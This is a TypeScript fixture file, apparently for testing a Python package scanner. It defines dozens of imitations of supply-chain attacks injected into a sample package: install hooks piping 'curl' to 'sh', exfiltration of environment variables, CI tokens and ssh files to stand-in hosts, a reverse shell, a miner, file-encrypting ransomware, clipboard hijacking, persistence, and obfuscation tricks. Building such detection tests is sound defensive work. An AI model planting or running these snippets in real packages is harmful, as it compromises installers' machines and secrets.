import { add, base64, type Pattern, prepend, program, replace } from "./change.ts";

const init = "{package}/__init__.py";
const client = "{package}/client.py";
const metadata = "{metadata}";

const inInit = (text: string): Pattern => ({ change: { [init]: add(`\n${text}\n`) } });
const inMethod = (text: string): Pattern => ({
  change: { [client]: add(`\n\ndef refresh(self):\n${text.replace(/^/gm, "    ")}\n`) },
});
const inSetup = (text: string): Pattern => ({ only: "source", change: { "setup.py": prepend(`${text}\n`) } });

/** Harmless imitations of what known incidents did to releases of Python packages. */
export const pythonPatterns: Readonly<Record<string, Pattern>> = {
  "setup.py downloads a program and starts it": inSetup(
    'import os, urllib.request\nurllib.request.urlretrieve("http://cdn.collect.example/a", "/tmp/a")\nos.system("chmod +x /tmp/a; /tmp/a")',
  ),
  "setup.py starts a hidden command": inSetup(
    'import subprocess\nsubprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand cABvAHcA", shell=True)',
  ),
  "setup.py reports who installs": inSetup(
    'import getpass, os, socket\nfrom urllib import request, parse\nrequest.urlopen("https://collect.example/?" + parse.urlencode({"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()}))',
  ),
  "an install command that starts a program": {
    only: "source",
    change: {
      "setup.py": () =>
        'from setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        import os\n        os.system("curl -s https://collect.example/i | sh")\n\n\nsetup(name="harborlog", packages=["harborlog"], cmdclass={"install": PostInstall})\n',
    },
  },
  "an egg_info command by another name": {
    only: "source",
    change: {
      "setup.py": () =>
        'import setuptools.command.egg_info as e\nimport setuptools\n\n\ndef work(self):\n    __import__("os").popen("id > /tmp/x")\n\n\nE = type("E", (e.egg_info,), {"run": work})\nsetuptools.setup(cmdclass=dict(egg_info=E))\n',
    },
  },
  "setup.py imports a module that does": {
    only: "source",
    change: { "setup.py": prepend("import _build_support\n"), "_build_support.py": "import os\nos.system('id')\n" },
  },
  "setup.py runs a version file that does": {
    only: "source",
    change: {
      "setup.py": prepend('exec(open("_about.py").read())\n'),
      "_about.py": "__version__ = '1.4.3'\nimport urllib.request as u\nu.urlopen('http://203.0.113.7/v')\n",
    },
  },
  "all variables sent, one by one (ctx)": inMethod(
    'from os import environ\nimport base64, requests\ntext = ""\nfor _, value in environ.items():\n    text += value + " "\nbody = base64.b64encode(text.encode("ascii")).decode("ascii")\nrequests.get("https://collect.example/hacked/" + body)',
  ),
  "a miner fetched where a model is loaded (ultralytics)": inMethod(
    'import platform, subprocess, urllib.request\nif platform.system() == "Linux":\n    urllib.request.urlretrieve("https://collect.example/x", "/tmp/ultra")\n    subprocess.Popen(["chmod", "755", "/tmp/ultra"]).wait()\n    subprocess.Popen(["/tmp/ultra", "-u", "wallet", "-o", "pool.example:8080"], stderr=subprocess.DEVNULL)',
  ),
  "files of the user, sent by DNS (torchtriton)": {
    change: {
      [init]: add("\nfrom ._sysinfo import collect as _c\n_c()\n"),
      "{package}/_sysinfo.py":
        'import os, socket\n\n\ndef collect():\n    for path in ["/etc/passwd", os.path.expanduser("~/.gitconfig"), os.path.expanduser("~/.ssh/config")]:\n        for piece in open(path, "rb").read().hex():\n            socket.getaddrinfo(piece + ".h4ck.example", 80)\n',
    },
  },
  "a program in the package that runs on import (torchtriton)": {
    change: {
      "{package}/runtime/triton": program,
      [init]: add(
        '\nimport os as _o, subprocess as _s\n_s.Popen([_o.path.join(_o.path.dirname(__file__), "runtime", "triton")])\n',
      ),
    },
  },
  "code far to the right (W4SP)": inInit(
    `import os${" ".repeat(300)};__import__("builtins").exec(__import__("builtins").compile(__import__("base64").b64decode("${base64}"),"<string>","exec"))`,
  ),
  "a second stage that is written and started (W4SP)": inInit(
    'from tempfile import NamedTemporaryFile as _f\nfrom sys import executable as _e\nfrom os import system as _s\n_t = _f(delete=False)\n_t.write(b"""from urllib.request import urlopen as _u;exec(_u("http://203.0.113.9/inject").read())""")\n_t.close()\n_s(f"start {_e} {_t.name}")',
  ),
  "layers of lambda, zlib and base64": inInit(
    "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'==AAA'))",
  ),
  "code loaded with marshal": inInit("import marshal as m, types as t\nt.FunctionType(m.loads(b'\\xe3'), globals())()"),
  "code in rot13": inInit('import codecs\nexec(codecs.decode("vzcbeg bf", "rot13"))'),
  "code in letters": inInit("eval(compile(''.join(map(chr, [112, 114, 105, 110, 116])), 'a', 'exec'))"),
  "a name in pieces": inMethod('getattr(__import__("o" + "s"), "".join(["sys", "tem"]))(self.key)'),
  "a name in hexadecimal": inMethod('getattr(__import__(bytes.fromhex("6f73").decode()), "system")("id")'),
  "a name reversed": inMethod('__import__("ssecorpbus"[::-1]).call(self.key)'),
  "a module by importlib": inInit('import importlib\nimportlib.import_module("os").system("id")'),
  "a module from sys.modules": inInit('import sys\nvars(sys.modules["os"])["system"]("id")'),
  "os.system under another name": inInit("from os import system as refresh\nrefresh('id')"),
  "a function of subprocess by getattr": inInit('import subprocess\n_run = getattr(subprocess, "run")\n_run(["id"])'),
  "text that changes its order": inMethod('level = "user\u202e \u2066# admin only\u2069 \u2066"\nreturn level'),
  "a name that looks like another": inMethod("реquests = self.key\nreturn реquests"),
  "characters that are not shown": inMethod("to\u200bken = self.key\nreturn to\u200bken"),
  "names looked up that carry data": inMethod(
    'import socket, binascii\nsocket.gethostbyname(binascii.hexlify(self.key.encode()).decode() + ".collect.example")',
  ),
  "a message to Discord": inMethod(
    'import requests\nrequests.post("https://discord.com/api/webhooks/1/abc", json={"content": self.key})',
  ),
  "a message to Telegram": inMethod(
    'import requests\nrequests.post("https://api.telegram.org/bot%s/sendMessage" % "1:x", data={"text": self.key})',
  ),
  "a message to Slack": inMethod(
    'import json, urllib.request\nurllib.request.urlopen(urllib.request.Request("https://hooks.slack.com/services/T0/B0/x", json.dumps({"text": self.key}).encode()))',
  ),
  "a page to paste on": inMethod('import requests\nexec(requests.get("https://pastebin.com/raw/abc").text)'),
  "a hook for all imports": inInit(
    "import sys\n\n\nclass _Finder:\n    def find_spec(self, name, path=None, target=None):\n        return None\n\n\nsys.meta_path.insert(0, _Finder())",
  ),
  "another import function": inInit(
    "import builtins\n_import = builtins.__import__\n\n\ndef _hooked(name, *rest):\n    return _import(name, *rest)\n\n\nbuiltins.__import__ = _hooked",
  ),
  "a .pth file": {
    only: "binary",
    change: { "harborlog-init.pth": "import os, sys; exec('import urllib.request')\n" },
  },
  "a .pth file that setup.py installs": {
    only: "source",
    change: {
      "harborlog-init.pth": "import harborlog.client\n",
      "setup.py": replace("setup(", 'setup(data_files=[("lib/python3/site-packages", ["harborlog-init.pth"])], '),
    },
  },
  "a sitecustomize module": { change: { "sitecustomize.py": "import os\n" } },
  "a file for the site, written when the package is used": inMethod(
    'import site, os\nwith open(os.path.join(site.getsitepackages()[0], "zz.pth"), "w") as out:\n    out.write("import harborlog")',
  ),
  "a backend of its own": {
    only: "source",
    change: {
      "pyproject.toml": () =>
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
      "_build/backend.py":
        "from setuptools.build_meta import *\nimport os\n\n\ndef get_requires_for_build_wheel(config=None):\n    os.system('id')\n    return []\n",
    },
  },
  "a build requirement from an address": {
    only: "source",
    change: {
      "pyproject.toml": replace(
        /^requires = \[/m,
        'requires = ["speedups @ https://collect.example/speedups-1.0.tar.gz", ',
      ),
    },
  },
  "a requirement from an address": {
    change: {
      [metadata]: replace("\n\n", "\nRequires-Dist: fastlib @ https://collect.example/fastlib-1.0.tar.gz\n\n"),
    },
  },
  "a new requirement with a name like another's (colourama)": {
    change: { [metadata]: replace("\n\n", "\nRequires-Dist: colourama\n\n") },
  },
  "a new requirement with two letters exchanged": {
    change: { [metadata]: replace("\n\n", "\nRequires-Dist: reqeusts>=2\n\n") },
  },
  "a command called pip": {
    only: "binary",
    change: { "{info}/entry_points.txt": "[console_scripts]\npip = harborlog.client:main\n" },
  },
  "a script called ls": { only: "binary", change: { "{data}/scripts/ls": "#!/bin/sh\n/bin/ls $@\n" } },
  "a module of another project": { only: "binary", change: { "requests/__init__.py": "def get(url): pass\n" } },
  "a module that no one expects": {
    only: "binary",
    change: { "speedups/__init__.py": "import os\nos.system('id')\n" },
  },
  "a compiled library without sources": {
    only: "binary",
    change: {
      "{package}/_speed.cpython-311-x86_64-linux-gnu.so": program,
      [init]: add("\nfrom . import _speed\n"),
    },
  },
  "bytecode without its source": {
    change: { "{package}/_cache.pyc": Buffer.concat([Buffer.from("a70d0d0a", "hex"), Buffer.alloc(64)]) },
  },
  "a program in a picture's name": { change: { "{package}/static/logo.png": program } },
  "an archive behind a picture": {
    change: {
      "{package}/static/banner.png": Buffer.concat([
        Buffer.from("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489", "hex"),
        Buffer.from("0000000049454e44ae426082", "hex"),
        Buffer.from("504b0304140000000800", "hex"),
        Buffer.alloc(4000, 3),
      ]),
      [init]: add(
        '\nimport zipimport as _z, os as _o\n_z.zipimporter(_o.path.join(_o.path.dirname(__file__), "static", "banner.png")).load_module("stage")\n',
      ),
    },
  },
  "a pickle that runs a command": {
    change: {
      "{package}/model.pkl": Buffer.from("8002636f730a73797374656d0a71005802000000696471018571025271032e", "hex"),
    },
  },
  "a watched keyboard": inMethod("from pynput.keyboard import Listener\nListener(on_press=self.key).start()"),
  "a clipboard that is exchanged": inMethod(
    'import pyperclip\nif pyperclip.paste().startswith("bc1"):\n    pyperclip.copy("bc1qother")',
  ),
  "a key for someone else": inMethod(
    'import os\nwith open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as out:\n    out.write("ssh-ed25519 AAAA")',
  ),
  "a job of cron": inMethod(
    "import subprocess\nsubprocess.run(\"(crontab -l; echo '* * * * * id') | crontab -\", shell=True)",
  ),
  "cookies of a browser": inMethod(
    'import os, sqlite3\nreturn sqlite3.connect(os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data"))',
  ),
  "keys of the machine in a cloud": inMethod(
    'import requests\nreturn requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/").text',
  ),
  "a shell for someone else": inMethod(
    'import os, pty, socket\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))\nfor number in (0, 1, 2):\n    os.dup2(s.fileno(), number)\npty.spawn("/bin/sh")',
  ),
  "code in memory": inMethod("import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)"),
  "a thread on import": inInit(
    'import threading, urllib.request\nthreading.Thread(target=lambda: urllib.request.urlopen("http://collect.example/p"), daemon=True).start()',
  ),
  "a token of a continuous integration": inMethod(
    'import os, requests\nrequests.post(self.url, json={k: v for k, v in os.environ.items() if "TOKEN" in k or "AWS" in k})',
  ),
  "a password of the keyring": inMethod('import keyring\nreturn keyring.get_password("system", "user")'),
  "files that are encrypted": inMethod(
    'import os\nfrom cryptography.fernet import Fernet\nfor folder, _, names in os.walk(os.path.expanduser("~")):\n    for name in names:\n        path = os.path.join(folder, name)\n        data = open(path, "rb").read()\n        open(path, "wb").write(Fernet(self.key).encrypt(data))',
  ),
  "tests that report home": {
    only: "source",
    change: {
      "tests/conftest.py":
        'import os, socket, urllib.request\nurllib.request.urlopen("http://collect.example/?" + socket.gethostname() + str(dict(os.environ)))\n',
    },
  },
  "tests that run decoded code": {
    only: "source",
    change: { "tests/test_setup.py": `import base64\nexec(base64.b64decode("${base64}"))\n` },
  },
  "documentation that starts a program": {
    only: "source",
    change: { "docs/conf.py": add('\nimport os\nos.system("curl -s http://203.0.113.7/d | sh")\n') },
  },
  "a compiled extension that starts programs": {
    only: "source",
    change: {
      "{package}/_speed.c":
        '#include <stdlib.h>\n#include <Python.h>\n\n__attribute__((constructor)) static void begin(void) {\n    system("curl -s http://203.0.113.7/x | sh");\n}\n',
    },
  },
  "a build script of Rust": {
    only: "source",
    change: {
      "build.rs":
        'use std::process::Command;\n\nfn main() {\n    Command::new("sh").arg("-c").arg("curl -s http://203.0.113.7/x | sh").status().unwrap();\n}\n',
    },
  },
  "a build script of CMake": {
    only: "source",
    change: {
      "CMakeLists.txt":
        'cmake_minimum_required(VERSION 3.20)\nproject(harborlog)\nexecute_process(COMMAND sh -c "curl -s http://203.0.113.7/x | sh")\n',
    },
  },
  "another author": {
    change: {
      [metadata]: (text) =>
        text
          .replace(/^Author(-email)?: .*$/gm, "Author$1: Right Nine <right9@collect.example>")
          .replace(/^Maintainer(-email)?: .*$/gm, "Maintainer$1: Right Nine <right9@collect.example>"),
    },
  },
  "another license": {
    change: {
      [metadata]: (text) =>
        text
          .replace(/^License(-Expression)?: .*$/gm, "License$1: AGPL-3.0-only")
          .replace(
            /^Classifier: License :: .*$/gm,
            "Classifier: License :: OSI Approved :: GNU Affero General Public License v3",
          ),
      LICENSE: "GNU AFFERO GENERAL PUBLIC LICENSE\nVersion 3\n",
    },
  },
  "a token left behind": {
    change: { "{package}/settings.py": `TOKEN = "ghp_${"aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY1zA2".slice(0, 36)}"\n` },
  },
};
